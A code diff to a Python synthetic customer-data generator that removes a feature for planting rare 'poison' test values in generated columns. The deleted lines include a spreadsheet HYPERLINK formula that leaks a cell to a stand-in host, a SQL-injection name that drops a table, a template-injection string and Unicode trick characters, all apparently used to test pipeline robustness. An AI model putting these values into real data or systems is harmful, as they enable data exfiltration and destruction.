@@ -1,4 +1,4 @@
-"""What the sources of one chunk share: its people, their work, the ledger, and the poison to plant."""
+"""What the sources of one chunk share: its people, their work, their records, the ledger."""
 
 from dataclasses import dataclass
 from typing import Any
@@ -7,23 +7,14 @@ import numpy as np
 import pyarrow as pa
 
 from customer360.demo.companies import Companies, Employment
-from customer360.demo.ledger import Dealer, Ledger, repeat_batch
+from customer360.demo.ledger import Ledger, repeat_batch
 from customer360.demo.membership import Rows
 from customer360.demo.people import People
 from customer360.demo.profiles import Profile
 from customer360.demo.schemas import SCHEMAS
-from customer360.demo.text import Days, Numbers, Text, put
+from customer360.demo.text import Days, Numbers
 from customer360.demo.views import Painter, View
 from customer360.demo.world import World
-
-RARE = 1 / 5000
-FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Premio")'
-SQL_NAME = "Robert'); DROP TABLE customers;--"
-TEMPLATE = "{{ config }}"
-EMOJI = "Lucía 🌻💃"
-RIGHT_TO_LEFT = "\u202eنور الهدى"
-ZERO_WIDTH = "\u200b"
-FAR_FUTURE = np.datetime64("2099-12-31T23:59:59", "us")
 
 
 @dataclass
@@ -46,14 +37,6 @@ class Chunk:
         """These people as a source wrote them on these days."""
         return Painter(self.world, self.people, self.work, owner, when, profile, step).view()
 
-    def dealer(self, step: str, size: int) -> Dealer:
-        """Rows of one table for traps."""
-        return Dealer(self.world.rng(f"traps {step}"), size)
-
-    def quota(self, per_person: float = RARE) -> int:
-        """How many traps of a kind to plant here."""
-        return self.world.quota(per_person)
-
     def numbers(self, count: int, start: int, per_person: int) -> Numbers:
         """Ids of this chunk's rows of a table: numbers that no other chunk uses."""
         return start + self.world.first * per_person + np.arange(count)
@@ -68,7 +51,7 @@ class Chunk:
         made = pa.Table.from_arrays(arrays, schema=schema)
         if not repeats:
             return made, np.zeros(0, dtype=np.int64)
-        return repeat_batch(self.quota(repeats), self.world.rng(f"repeat {table}"), made)
+        return repeat_batch(self.world.quota(repeats), self.world.rng(f"repeat {table}"), made)
 
     def synced(self, table: str, size: int) -> Days:
         """When the loader wrote each row: in batches during the night before as_of."""
@@ -77,11 +60,6 @@ class Chunk:
         start = self.world.today.astype("datetime64[us]") + np.timedelta64(1, "h")
         moments: Days = start + (batch * 180).astype("timedelta64[s]")
         return moments
-
-    def poison(self, dealer: Dealer, column: Text, name: str, word: str) -> tuple[Text, Numbers]:
-        """The column with a poisonous word at a few rows; also which rows."""
-        rows = dealer.rows(self.quota())
-        return put(column, rows, word), rows
 
 
 def _column(values: Any, kind: pa.DataType, size: int) -> pa.Array:
